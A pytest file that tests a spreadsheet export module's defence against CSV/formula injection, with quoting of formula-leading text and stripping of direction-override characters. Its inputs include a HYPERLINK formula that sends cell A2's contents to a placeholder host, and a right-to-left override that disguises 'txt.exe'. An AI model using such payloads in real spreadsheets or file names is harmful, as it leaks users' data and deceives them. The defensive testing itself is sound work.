"""Export values never run as a formula (core/spreadsheet.py; OWASP, CSV injection)."""

from datetime import date
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from core.spreadsheet import csv_row, neutralise, xlsx_row


@pytest.mark.parametrize(
    "text", ["=1+1", '=HYPERLINK("http://x"&A2,"Klicka")', "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"]
)
def test_text_that_would_start_a_formula_gets_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Quiz", "", " =1", "2019-05-06", "'quoted", -5, Decimal("-3"), 1.5]
)
def test_other_values_are_unchanged(value):
    assert neutralise(value) == value


def test_a_direction_override_is_dropped_before_the_formula_check():
    # Stored before core.text refused them (or restored from such a backup): "\u202etxt.exe"
    # would display as "exe.txt", and an override in front must not hide a formula.
    assert neutralise("Kvitto \u202etxt.exe") == "Kvitto txt.exe"
    assert neutralise("\u202d=1+1") == "'=1+1"
    # Marks and isolates of right-to-left text stay.
    assert neutralise("\u2067مقهى\u2069 \u200f") == "\u2067مقهى\u2069 \u200f"


def test_a_csv_row_has_iso_dates_and_neutral_text():
    assert csv_row([date(2019, 5, 6), "=1+1", 7]) == ["2019-05-06", "'=1+1", 7]


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_text_is_a_string_cell_and_numbers_stay_numbers(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("x") if write_only else wb.active
    ws.append(xlsx_row(ws, ["=1+1", "plain", 5, -2.5, date(2019, 5, 6)]))
    out = BytesIO()
    wb.save(out)
    cells = list(load_workbook(BytesIO(out.getvalue())).active.iter_rows())[0]
    assert [(c.value, c.data_type) for c in cells[:4]] == [
        ("'=1+1", "s"),
        ("plain", "s"),
        (5, "n"),
        (-2.5, "n"),
    ]
    assert cells[4].is_date
